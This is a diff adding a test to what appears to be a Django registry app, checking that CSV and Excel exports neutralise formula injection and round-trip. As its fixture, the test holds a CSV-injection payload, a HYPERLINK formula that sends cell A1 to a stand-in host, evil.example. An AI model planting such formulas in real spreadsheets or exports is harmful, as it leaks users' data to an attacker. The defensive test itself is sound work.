@@ -231,3 +231,32 @@ def test_one_event_written_twice_in_a_file_is_refused(p: Personas, tmp_path: Pat
     assert [(e.row, e.column) for e in info.value.errors] == [(6, "事件类型")]
     assert "与第2行是同一事件" in info.value.errors[0].reason
     assert not RegistryEvent.objects.exists()
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_an_export_quotes_formulas_and_imports_back_unchanged(p: Personas, tmp_path: Path,
+                                                               suffix: str) -> None:
+    """OWASP CSV injection: the matter is written `'=…` (text), and read back without the
+    apostrophe, so the file still round-trips."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from policyhub.registry import services
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    services.record_event(None, p.org, "standard_led", dt.date(2020, 5, 10),
+                          {"level": "national"}, matter=evil)
+    out = tmp_path / f"export{suffix}"
+    assert export_file(out, "events") == 1
+    if suffix == ".csv":
+        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
+        assert "'" + evil in rows[1]
+    else:
+        sheet = load_workbook(out).active
+        assert sheet is not None
+        quoted = [c for c in sheet[2] if c.value == "'" + evil]
+        assert len(quoted) == 1 and quoted[0].data_type == "s"
+    RegistryEvent.objects.all().delete()
+    import_file(out, "events")
+    assert RegistryEvent.objects.get().matter == evil
